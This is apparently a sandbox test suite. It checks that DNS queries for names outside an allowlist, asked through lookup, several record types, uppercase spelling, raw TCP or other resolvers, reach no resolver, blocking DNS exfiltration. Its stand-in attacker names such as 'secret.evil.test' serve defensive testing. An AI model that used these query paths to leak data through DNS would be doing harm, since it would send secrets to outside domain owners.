/* Threat: whoever may ask a name server, directly or through the host's resolver, can send data to the
 * owner of a domain, in the names that it asks for (CVE-2025-55284, microsandbox #675). A name that is
 * not allowed reaches no resolver, whichever way, type and spelling it is asked by. */
import { runInside } from '../support/network-sandbox.ts';

const PROBE = `
const dns = require('node:dns'), dgram = require('node:dgram'), net = require('node:net');
const server = (address) => {
  const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
  if (address) resolver.setServers([address]);
  return resolver;
};
const code = (ask) => new Promise((resolve) => ask((error) => resolve(error ? error.code : 'ok')));
const query = (name) => Buffer.concat([
  Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').map((label) => Buffer.from([label.length, ...Buffer.from(label)])),
  Buffer.from([0, 0, 1, 0, 1]),
]);
const overTcp = (name) => new Promise((resolve) => {
  const socket = net.connect(53, '127.0.0.1');
  const message = query(name);
  socket.on('connect', () => socket.write(Buffer.from([0, message.length, ...message])));
  socket.on('data', (answer) => { resolve('rcode ' + (answer[5] & 15)); socket.destroy(); });
  socket.on('error', (error) => resolve(error.code));
});
const [name] = process.argv.slice(1);
(async () => console.log(JSON.stringify({
  lookup: await code((done) => dns.lookup(name, done)),
  a: await code((done) => server().resolve4(name, done)),
  txt: await code((done) => server().resolveTxt('a.b.' + name, done)),
  any: await code((done) => server().resolveAny(name, done)),
  upper: await code((done) => server().resolve4(name.toUpperCase() + '.', done)),
  tcp: await overTcp(name),
  far: await code((done) => server('192.0.2.53').resolve4(name, done)),
  own: await code((done) => server('127.0.0.11').resolve4(name, done)),
})))();
`;

async function ask(name: string) {
  const { stdout, resolved } = await runInside(
    {
      network: { allowedDomains: ['allowed.test'] },
      names: { 'allowed.test': ['192.0.2.1'] },
    },
    [process.execPath, '-e', PROBE, name],
  );
  return { answers: JSON.parse(stdout) as Record<string, string>, resolved };
}

test('an allowed name is asked for: the control', async () => {
  const { answers, resolved } = await ask('allowed.test');
  expect(answers).toMatchObject({ lookup: 'ok', a: 'ok', upper: 'ok', tcp: 'rcode 0' });
  expect(new Set(resolved)).toEqual(new Set(['allowed.test']));
});

test.each([
  'secret.evil.test',
  'allowed.test.evil.test',
  'notallowed.test',
])('%s is asked of nobody', async (name) => {
  const { answers, resolved } = await ask(name);
  expect(resolved).toEqual([]);
  expect(answers).toMatchObject({ a: 'EREFUSED', txt: 'EREFUSED', upper: 'EREFUSED' });
  expect(answers.tcp).toBe('rcode 5');
  expect([answers.lookup, answers.any, answers.far, answers.own]).not.toContain('ok');
});
